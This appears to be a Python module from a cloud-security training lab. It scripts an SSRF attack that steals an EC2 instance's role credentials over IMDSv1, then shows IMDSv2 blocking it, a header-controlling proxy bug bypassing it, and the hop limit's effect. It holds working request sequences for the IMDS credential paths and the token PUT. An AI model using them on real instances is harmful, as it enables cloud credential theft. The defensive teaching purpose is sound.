"""The SSRF lab, `ssrf-imds`: steal an instance's role through a web app, then
watch IMDSv2 stop it, see what it does not stop, and what the hop limit adds.

`run_ssrf_imds(target)` plays the story against a running lab and returns one
`StepResult` per step; every step states what it expects and what it saw, so
the CLI can print it and the web console can show it. Nothing here prints.
"""

from __future__ import annotations

import json
import logging
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Mapping
from dataclasses import asdict, dataclass
from typing import Any
from urllib.parse import urlencode

import boto3
import botocore.config
from botocore.exceptions import ClientError

from gatehouse.lab.ssrf import hoplimit
from gatehouse.lab.ssrf.app import VulnerableApp

logger = logging.getLogger(__name__)

WEB_INSTANCE = "i-0a1b2c3d4e5f60718"
ROLE_PATH = "/latest/meta-data/iam/security-credentials/"
TOKEN_PATH = "/latest/api/token"
OUTSIDE_URL = "http://example.com/"


@dataclass(frozen=True)
class StepResult:
    """One step of a lab run: what was done, what happened, and whether it was
    what the lesson expects."""

    title: str
    action: str
    expected: str
    observed: str
    explanation: str

    @property
    def as_expected(self) -> bool:
        return self.expected == self.observed

    def to_json(self) -> dict[str, Any]:
        return {**asdict(self), "as_expected": self.as_expected}


@dataclass(frozen=True)
class Target:
    """Where the lab is: its endpoint, Region, the web instance's metadata
    service, and the home account's administrator keys (the responder)."""

    endpoint: str
    region: str
    imds: str
    responder_key: str
    responder_secret: str
    instance_id: str = WEB_INSTANCE


@dataclass(frozen=True)
class LabRun:
    name: str
    summary: str
    play: Callable[..., list[StepResult]]


class _Story:
    def __init__(self, target: Target, app: VulnerableApp) -> None:
        self.target = target
        self.app = app
        self.steps: list[StepResult] = []
        self.stolen: dict[str, Any] = {}

    def step(
        self, title: str, action: str, expected: str, observed: str, why: str
    ) -> None:
        self.steps.append(StepResult(title, action, expected, observed, why))
        logger.debug("%s: expected %r, observed %r", title, expected, observed)

    def fetch(self, url: str) -> tuple[int, str]:
        return _http_get(f"{self.app.url}/fetch?{urlencode({'url': url})}")

    def proxy(
        self, url: str, method: str, headers: Mapping[str, str]
    ) -> tuple[int, str]:
        query = [("url", url), ("method", method)]
        query += [("header", f"{k}: {v}") for k, v in headers.items()]
        return _http_get(f"{self.app.url}/proxy?{urlencode(query)}")

    def client(self, service: str, credentials: Mapping[str, str] | None = None) -> Any:
        target = self.target
        keys = credentials or {
            "AccessKeyId": target.responder_key,
            "SecretAccessKey": target.responder_secret,
        }
        return boto3.session.Session().client(
            service,
            endpoint_url=target.endpoint,
            region_name=target.region,
            aws_access_key_id=keys["AccessKeyId"],
            aws_secret_access_key=keys["SecretAccessKey"],
            aws_session_token=keys.get("Token"),
            config=botocore.config.Config(retries={"max_attempts": 1}),
        )


def _http_get(url: str) -> tuple[int, str]:
    try:
        with urllib.request.urlopen(url, timeout=15) as response:
            return response.status, response.read().decode("utf-8", "replace")
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode("utf-8", "replace")


def run_ssrf_imds(target: Target, *, hop_demo: bool = True) -> list[StepResult]:
    """Play the whole story; the lab's web instance ends with IMDSv2 required."""
    app = VulnerableApp([target.imds, target.endpoint])
    with app:
        story = _Story(target, app)
        _fence(story)
        _steal_over_imdsv1(story)
        _use_from_outside(story)
        _read_cloudtrail(story)
        _require_imdsv2(story)
        _same_attack_refused(story)
        _method_and_headers(story)
        _hop_limit(story, hop_demo)
    return story.steps


def _fence(story: _Story) -> None:
    status, body = story.fetch(OUTSIDE_URL)
    story.step(
        "The vulnerable app only reaches lab addresses",
        f"GET {story.app.url}/fetch?url={OUTSIDE_URL}",
        "HTTP 403: refused, not a lab address",
        f"HTTP {status}: "
        + ("refused, not a lab address" if "not a lab address" in body else body),
        "The app fetches any URL it is given, like most SSRF bugs, but Gatehouse "
        "fences it to the instance's metadata service and the lab endpoint.",
    )


def _steal_over_imdsv1(story: _Story) -> None:
    imds = story.target.imds
    status, body = story.fetch(imds + ROLE_PATH)
    role = body.strip()
    story.step(
        "The attacker finds the instance's role through the app",
        f"GET /fetch?url={imds}{ROLE_PATH}",
        "HTTP 200: WebAppRole",
        f"HTTP {status}: {role}",
        "A plain GET is all an SSRF bug can send; with HttpTokens optional, IMDSv1 "
        "answers it.",
    )
    status, body = story.fetch(imds + ROLE_PATH + role)
    keys = _credentials(body)
    story.stolen = keys
    story.step(
        "The attacker reads the role's credentials over IMDSv1",
        f"GET /fetch?url={imds}{ROLE_PATH}{role}",
        "HTTP 200: temporary keys (ASIA...)",
        f"HTTP {status}: "
        + ("temporary keys (ASIA...)" if keys else f"no keys: {body[:80]}"),
        "The answer carries AccessKeyId, SecretAccessKey and Token: the instance's "
        "identity, now in the attacker's hands.",
    )


def _credentials(body: str) -> dict[str, Any]:
    try:
        document = json.loads(body)
    except ValueError:
        return {}
    if not isinstance(document, dict) or "AccessKeyId" not in document:
        return {}
    return document if str(document["AccessKeyId"]).startswith("ASIA") else {}


def _use_from_outside(story: _Story) -> None:
    expected_arn = f"assumed-role/WebAppRole/{story.target.instance_id}"
    observed = "no credentials to use"
    if story.stolen:
        try:
            arn = story.client("sts", story.stolen).get_caller_identity()["Arn"]
            observed = arn.split(":", 5)[-1]
        except ClientError as error:
            observed = error.response["Error"]["Code"]
    story.step(
        "The attacker uses them from outside the instance",
        "aws sts get-caller-identity with the stolen keys, against the lab endpoint",
        expected_arn,
        observed,
        "Role credentials work from anywhere until they expire: the session is "
        "named after the instance.",
    )


def _read_cloudtrail(story: _Story) -> None:
    observed = "no event found"
    key = str(story.stolen.get("AccessKeyId", ""))
    if key:
        event = _event_for_key(story, key)
        if event is not None:
            identity = event["userIdentity"]
            delivery = identity.get("sessionContext", {}).get("ec2RoleDelivery")
            observed = (
                f"{event['eventName']} by {identity['arn'].split(':', 5)[-1]}, "
                f"ec2RoleDelivery {delivery}"
            )
    story.step(
        "CloudTrail shows the instance's session, delivered over IMDSv1",
        f"aws cloudtrail lookup-events --lookup-attributes "
        f"AttributeKey=AccessKeyId,AttributeValue={key or '...'}",
        f"GetCallerIdentity by assumed-role/WebAppRole/{story.target.instance_id}, "
        "ec2RoleDelivery 1.0",
        observed,
        "userIdentity.sessionContext.ec2RoleDelivery says how the credentials left "
        "the instance: 1.0 is IMDSv1. A Deny on ec2:RoleDelivery < 2.0 would refuse "
        "them everywhere.",
    )


def _event_for_key(story: _Story, key: str) -> dict[str, Any] | None:
    trail = story.client("cloudtrail")
    for _ in range(20):
        events = trail.lookup_events(
            LookupAttributes=[{"AttributeKey": "AccessKeyId", "AttributeValue": key}]
        )["Events"]
        for event in events:
            record: dict[str, Any] = json.loads(event["CloudTrailEvent"])
            if record["eventName"] == "GetCallerIdentity":
                return record
        time.sleep(0.25)
    return None


def _require_imdsv2(story: _Story) -> None:
    ec2 = story.client("ec2")
    instance = story.target.instance_id
    answer = ec2.modify_instance_metadata_options(
        InstanceId=instance, HttpTokens="required"
    )["InstanceMetadataOptions"]
    described = ec2.describe_instances(InstanceIds=[instance])["Reservations"][0][
        "Instances"
    ][0]["MetadataOptions"]
    story.step(
        "The responder requires IMDSv2 on the instance",
        f"aws ec2 modify-instance-metadata-options --instance-id {instance} "
        "--http-tokens required",
        "pending, then applied with HttpTokens required",
        f"{answer['State']}, then {described['State']} with HttpTokens "
        f"{described['HttpTokens']}",
        "The change reaches the running metadata service at once; nothing on the "
        "instance restarts.",
    )


def _same_attack_refused(story: _Story) -> None:
    imds = story.target.imds
    status, _ = story.fetch(imds + ROLE_PATH + "WebAppRole")
    story.step(
        "The same SSRF attack now gets 401",
        f"GET /fetch?url={imds}{ROLE_PATH}WebAppRole",
        "HTTP 401",
        f"HTTP {status}",
        "IMDSv2 needs a token from PUT /latest/api/token first. A GET-only bug can "
        "send neither the PUT nor the token header.",
    )


def _method_and_headers(story: _Story) -> None:
    imds = story.target.imds
    status, token = story.proxy(
        imds + TOKEN_PATH, "PUT", {"X-aws-ec2-metadata-token-ttl-seconds": "300"}
    )
    story.step(
        "A worse bug lets the attacker choose method and headers: the PUT",
        f"GET /proxy?url={imds}{TOKEN_PATH}&method=PUT"
        "&header=X-aws-ec2-metadata-token-ttl-seconds: 300",
        "HTTP 200: a token",
        f"HTTP {status}: " + ("a token" if status == 200 and token else token[:80]),
        "The request comes from the instance itself, so the token's hop limit is "
        "no obstacle.",
    )
    status, body = story.proxy(
        imds + ROLE_PATH + "WebAppRole",
        "GET",
        {"X-aws-ec2-metadata-token": token.strip()},
    )
    keys = _credentials(body)
    story.step(
        "...then the GET with the token: IMDSv2 does not stop this bug",
        f"GET /proxy?url={imds}{ROLE_PATH}WebAppRole"
        "&header=X-aws-ec2-metadata-token: <token>",
        "HTTP 200: temporary keys (ASIA...)",
        f"HTTP {status}: " + ("temporary keys (ASIA...)" if keys else body[:80]),
        "IMDSv2 defeats requests an attacker cannot shape. Against a full proxy, "
        "fix the app, and limit what the role may do (least privilege, "
        "aws:SourceVpc/aws:SourceIp conditions, GuardDuty's "
        "InstanceCredentialExfiltration findings).",
    )


def _hop_limit(story: _Story, hop_demo: bool) -> None:
    explanation = (
        "The hop limit is the IP TTL of the token response (default 1). A client "
        "more routed hops away than the limit, such as a container behind a "
        "bridge with routing, never receives a token. It does nothing against an "
        "SSRF bug inside the instance (zero hops) and nothing to a token once "
        "issued."
    )
    reason = hoplimit.unavailable() if hop_demo else "not requested (--no-hop-demo)"
    if reason is not None:
        story.step(
            "What the hop limit adds",
            "network-namespace demonstration",
            f"skipped: {reason}",
            f"skipped: {reason}",
            explanation + " tests/imds/test_netns.py shows it on a routed topology.",
        )
        return
    outcome = hoplimit.demonstrate()
    story.step(
        "What the hop limit adds",
        "token PUT from the instance and from a container one router away, "
        "hop limit 1, then 2",
        "hop limit 1: instance gets a token, container none; "
        "hop limit 2: container gets a token",
        outcome,
        explanation,
    )


RUNS: Mapping[str, LabRun] = {
    "ssrf-imds": LabRun(
        "ssrf-imds",
        "Steal an instance role through an SSRF bug over IMDSv1, see IMDSv2 stop it, "
        "see what it does not stop, and what the hop limit adds.",
        run_ssrf_imds,
    ),
}
